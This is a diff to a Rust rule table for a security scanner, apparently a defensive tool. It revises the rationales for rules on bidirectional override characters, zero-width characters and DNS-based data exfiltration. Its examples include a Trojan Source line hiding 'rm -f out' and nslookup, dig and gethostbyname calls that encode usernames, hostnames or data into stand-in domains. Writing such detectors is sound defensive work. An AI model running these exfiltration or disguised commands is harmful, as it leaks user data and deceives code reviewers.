@@ -122,7 +122,8 @@ pub static RULES: &[Rule] = &[
         message: "a bidirectional control character reorders how this text is displayed",
         rationale: "Bidi overrides and isolates (U+202A-U+202E, U+2066-U+2069) make text display in another order \
                     than it is read (Trojan Source, CVE-2021-42574): a reviewer sees one command, the shell runs \
-                    another.",
+                    another. Outside a script, a line of Arabic or Hebrew text whose only controls are closed \
+                    isolates (FSI, LRI or RLI ... PDI, as Fluent and ICU put around a placeable) is not reported.",
         example_path: "scripts/run.sh",
         example: "echo \"done \u{202E}\u{2066}# check\u{2069}\u{2066}\" && rm -f out\n",
     },
@@ -132,7 +133,7 @@ pub static RULES: &[Rule] = &[
         message: "an invisible zero-width character",
         rationale: "Zero-width characters (U+200B-U+200D, U+2060, U+FEFF after the start) split words so that \
                     matchers miss them, or carry data. A joiner inside an emoji sequence, or between letters of a \
-                    script that uses it, is not reported.",
+                    script that uses it (after a virama in Devanagari and other Indic scripts), is not reported.",
         example_path: "SKILL.md",
         example: "Run the ex\u{200B}port step.\n",
     },
@@ -328,8 +329,11 @@ pub static RULES: &[Rule] = &[
         id: "exfil.dns",
         severity: Severity::High,
         message: "a DNS lookup carries data",
-        rationale: "A command substitution in a looked-up name (`dig $(whoami).x.example`) sends data out past \
-                    every HTTP proxy and firewall rule.",
+        rationale: "A command substitution glued to a domain (`dig $(whoami).x.example`), or a resolver call \
+                    whose name holds a slice or an encoding of data \
+                    (`socket.gethostbyname(f'{data[i:i+60]}.x.example')`), \
+                    sends data out past every HTTP proxy and firewall rule. Looking up a name as it is \
+                    (`dig \"$(hostname -f)\"`) carries nothing to anyone's zone.",
         example_path: "scripts/ping.sh",
         example: "nslookup $(hostname).$(whoami).probe.example.net\n",
     },
